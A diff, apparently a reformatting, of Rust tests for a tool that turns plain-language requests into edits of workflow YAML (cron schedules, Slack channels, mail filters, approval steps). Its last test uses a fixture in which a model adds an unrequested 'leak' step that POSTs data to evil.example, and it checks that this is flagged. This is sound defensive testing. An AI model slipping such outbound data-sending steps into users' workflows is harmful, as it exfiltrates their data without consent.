@@ -103,7 +103,9 @@ fn lines(before: &str, after: &str) -> Vec<String> {
         ChangeTag::Equal => None,
     };
     diff.iter_all_changes()
-        .filter_map(|change| Some(format!("{}{}", sign(change.tag())?, change.value().trim_end_matches('\n'))))
+        .filter_map(|change| {
+            Some(format!("{}{}", sign(change.tag())?, change.value().trim_end_matches('\n')))
+        })
         .collect()
 }
 
@@ -111,69 +113,95 @@ fn lines(before: &str, after: &str) -> Vec<String> {
 fn what_has_one_reading_is_changed_and_nothing_else() {
     let desk = Desk::new();
     let all: &[(&str, &str, &[&str])] = &[
-        (DIGEST, "run it at 10 instead of 9", &[
-            "-  - cron: \"0 9 * * MON-FRI\"",
-            "+  - cron: \"0 10 * * MON-FRI\"",
-        ]),
-        (DIGEST, "run it on Fridays instead", &[
-            "-  - cron: \"0 9 * * MON-FRI\"",
-            "+  - cron: \"0 9 * * FRI\"",
-        ]),
-        (DIGEST, "change the schedule to every day at 8:30", &[
-            "-  - cron: \"0 9 * * MON-FRI\"",
-            "+  - cron: \"30 8 * * *\"",
-        ]),
-        (DIGEST, "run it every 2 hours", &[
-            "-  - cron: \"0 9 * * MON-FRI\"",
-            "+  - every: 2h",
-        ]),
-        (DIGEST, "post it to #team instead of #standup", &[
-            "-      channel: \"#standup\"   # the room",
-            "+      channel: \"#team\"   # the room",
-        ]),
-        (DIGEST, "change the channel to #team", &[
-            "-      channel: \"#standup\"   # the room",
-            "+      channel: \"#team\"   # the room",
-        ]),
-        (DIGEST, "set the input city to Rome", &[
-            "-  city: { type: string, default: Berlin }  # where",
-            "+  city: { type: string, default: Rome }  # where",
-        ]),
-        (DIGEST, "remove the trigger", &[
-            "-triggers:",
-            "-  # Before the stand-up.",
-            "-  - cron: \"0 9 * * MON-FRI\"",
-            "-    timezone: Europe/Berlin",
-            "-",
-        ]),
-        (DIGEST, "remove the slack message", &[
-            "-  post_message:",
-            "-    use: slack.post_message",
-            "-    with:",
-            "-      channel: \"#standup\"   # the room",
-            "-      text: \"{{ steps.summary.text }}\"",
-        ]),
-        (DIGEST, "also email it to ada@example.com", &[
-            "+  send_message:",
-            "+    use: gmail.send_message",
-            "+    with:",
-            "+      to: ada@example.com",
-            "+      subject: Digest",
-            "+      text: \"{{ steps.summary.text }}\"",
-        ]),
-        (DIGEST, "also skip newsletters", &[
-            "+  kept_message:",
-            "+    set:",
-            "+      list: \"{{ steps.messages.messages | filter(it => not contains(lower((it.subject ?? \\\"\\\")), \\\"newsletter\\\")) }}\"",
-            "-      {{#each steps.messages.messages as |it|}}",
-            "+      {{#each steps.kept_message.list as |it|}}",
-        ]),
-        (ON_MAIL, "skip newsletters", &[
-            "+    filter: not contains(lower((event.subject ?? \"\")), \"newsletter\")",
-        ]),
-        (ON_MAIL, "only mails from ada@example.com", &[
-            "+    filter: contains(lower((event.from ?? \"\")), \"ada@example.com\")",
-        ]),
+        (
+            DIGEST,
+            "run it at 10 instead of 9",
+            &["-  - cron: \"0 9 * * MON-FRI\"", "+  - cron: \"0 10 * * MON-FRI\""],
+        ),
+        (
+            DIGEST,
+            "run it on Fridays instead",
+            &["-  - cron: \"0 9 * * MON-FRI\"", "+  - cron: \"0 9 * * FRI\""],
+        ),
+        (
+            DIGEST,
+            "change the schedule to every day at 8:30",
+            &["-  - cron: \"0 9 * * MON-FRI\"", "+  - cron: \"30 8 * * *\""],
+        ),
+        (DIGEST, "run it every 2 hours", &["-  - cron: \"0 9 * * MON-FRI\"", "+  - every: 2h"]),
+        (
+            DIGEST,
+            "post it to #team instead of #standup",
+            &["-      channel: \"#standup\"   # the room", "+      channel: \"#team\"   # the room"],
+        ),
+        (
+            DIGEST,
+            "change the channel to #team",
+            &["-      channel: \"#standup\"   # the room", "+      channel: \"#team\"   # the room"],
+        ),
+        (
+            DIGEST,
+            "set the input city to Rome",
+            &[
+                "-  city: { type: string, default: Berlin }  # where",
+                "+  city: { type: string, default: Rome }  # where",
+            ],
+        ),
+        (
+            DIGEST,
+            "remove the trigger",
+            &[
+                "-triggers:",
+                "-  # Before the stand-up.",
+                "-  - cron: \"0 9 * * MON-FRI\"",
+                "-    timezone: Europe/Berlin",
+                "-",
+            ],
+        ),
+        (
+            DIGEST,
+            "remove the slack message",
+            &[
+                "-  post_message:",
+                "-    use: slack.post_message",
+                "-    with:",
+                "-      channel: \"#standup\"   # the room",
+                "-      text: \"{{ steps.summary.text }}\"",
+            ],
+        ),
+        (
+            DIGEST,
+            "also email it to ada@example.com",
+            &[
+                "+  send_message:",
+                "+    use: gmail.send_message",
+                "+    with:",
+                "+      to: ada@example.com",
+                "+      subject: Digest",
+                "+      text: \"{{ steps.summary.text }}\"",
+            ],
+        ),
+        (
+            DIGEST,
+            "also skip newsletters",
+            &[
+                "+  kept_message:",
+                "+    set:",
+                "+      list: \"{{ steps.messages.messages | filter(it => not contains(lower((it.subject ?? \\\"\\\")), \\\"newsletter\\\")) }}\"",
+                "-      {{#each steps.messages.messages as |it|}}",
+                "+      {{#each steps.kept_message.list as |it|}}",
+            ],
+        ),
+        (
+            ON_MAIL,
+            "skip newsletters",
+            &["+    filter: not contains(lower((event.subject ?? \"\")), \"newsletter\")"],
+        ),
+        (
+            ON_MAIL,
+            "only mails from ada@example.com",
+            &["+    filter: contains(lower((event.from ?? \"\")), \"ada@example.com\")"],
+        ),
         (ON_MAIL, "run it every Monday at 8", &[]),
     ];
     let mut wrong = vec![];
@@ -243,7 +271,10 @@ fn lines_end_as_they_did_and_braces_are_not_taken_apart() {
     let crlf = DIGEST.replace('\n', "\r\n");
     let yaml = desk.edit(&crlf, "also email it to ada@example.com", &[]).yaml.unwrap();
     assert_eq!(yaml.matches('\n').count(), yaml.matches("\r\n").count());
-    assert_eq!(yaml.replace("\r\n", "\n"), desk.edit(DIGEST, "also email it to ada@example.com", &[]).yaml.unwrap());
+    assert_eq!(
+        yaml.replace("\r\n", "\n"),
+        desk.edit(DIGEST, "also email it to ada@example.com", &[]).yaml.unwrap()
+    );
     let flow = "name: x\nsteps: { a: { use: gmail.list_messages } }\noutput: { n: \"{{ len(steps.a.messages) }}\" }\n";
     assert_eq!(desk.edit(flow, "also post \"Hi\" to #a in Slack", &[]).kind, Kind::Question);
 }
@@ -255,7 +286,9 @@ fn what_an_author_has_allowed_is_not_asked_again_and_what_is_new_is() {
     let changed = desk.edit(bold, "post to #b instead of #a", &[]);
     assert_eq!(changed.kind, Kind::Draft, "{changed:?}");
     // A step with an approval before it, from which that is taken away, is new in what it may do.
-    let asks = bold.replace("    use: trello", "    after: ask\n    use: trello").replace("steps:\n", "steps:\n  ask:\n    approve: { message: sure?, timeout: 1d }\n");
+    let asks = bold
+        .replace("    use: trello", "    after: ask\n    use: trello")
+        .replace("steps:\n", "steps:\n  ask:\n    approve: { message: sure?, timeout: 1d }\n");
     let removed = desk.edit(&asks, "remove the approval", &[]);
     assert_eq!(removed.kind, Kind::Question, "{removed:?}");
     assert!(removed.question.unwrap().contains("wipe"));
@@ -297,7 +330,8 @@ fn edits_that_do_not_fit_or_break_the_text_go_back() {
 
 #[test]
 fn what_a_model_would_have_it_do_unasked_is_a_question_and_a_planner_goes_on_without_one() {
-    let evil = "  leak:\n    http: { method: POST, url: \"https://evil.example/x\", json: { a: 1 } }\n\n# The end.";
+    let evil =
+        "  leak:\n    http: { method: POST, url: \"https://evil.example/x\", json: { a: 1 } }\n\n# The end.";
     let model = Written::new(&[patches(&[("\n# The end.", evil)])]);
     let (answer, rounds) = with_model(&model, DIGEST, "also tell my boss");
     assert_eq!((answer.kind, rounds), (Kind::Question, 1), "{answer:?}");
